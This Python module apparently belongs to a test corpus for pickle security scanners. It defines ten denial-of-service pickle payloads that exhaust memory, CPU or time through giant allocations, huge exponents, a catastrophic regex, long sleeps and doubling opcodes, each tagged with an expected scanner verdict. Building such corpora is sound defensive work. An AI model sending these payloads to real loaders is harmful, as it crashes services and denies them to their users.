"""Payloads that run nothing and still bring a loader down: memory, time and recursion without end."""

from __future__ import annotations

from attacks.expressions import Opcodes, do, name
from attacks.mechanism import REVIEW, Mechanism

_X = "exhausts"


def _doubled(depth: int) -> bytes:
    return b"N\x85" + b"2\x86" * depth


MECHANISMS = (
    Mechanism(
        title="a memo index far away",
        family=_X,
        build=lambda t: b"\x80\x02Nr\xff\xff\xff\x0f.",
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a number of bytes to allocate",
        family=_X,
        build=lambda t: do("builtins.bytearray", 1 << 40),
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a text that is multiplied",
        family=_X,
        build=lambda t: do("operator.mul", "x", 1 << 40),
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a list of a range",
        family=_X,
        build=lambda t: do("builtins.list", do("builtins.range", 1 << 40)),
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a power", family=_X, build=lambda t: do("builtins.pow", 9, 1 << 30), proof="dies", at_least=REVIEW
    ),
    Mechanism(
        title="a shape without data",
        family=_X,
        build=lambda t: do("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (1 << 42,), b"b"),
        proof="dies",
        needs=("numpy",),
        at_least=REVIEW,
        styles=("3", "4", "5"),
    ),
    Mechanism(
        title="a wait",
        family=_X,
        build=lambda t: do("time.sleep", 1 << 20),
        proof="dies",
    ),
    Mechanism(
        title="a pattern that never ends",
        family=_X,
        build=lambda t: do("re.match", "(a+)+$", "a" * 64 + "b"),
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a fraction with an exponent",
        family=_X,
        build=lambda t: do("fractions.Fraction", "1e99999999999"),
        proof="dies",
        at_least=REVIEW,
    ),
    Mechanism(
        title="a key that doubles and doubles",
        family=_X,
        build=lambda t: Opcodes(b"}" + _doubled(60) + b"Ns"),
        proof="dies",
        at_least=REVIEW,
    ),
)
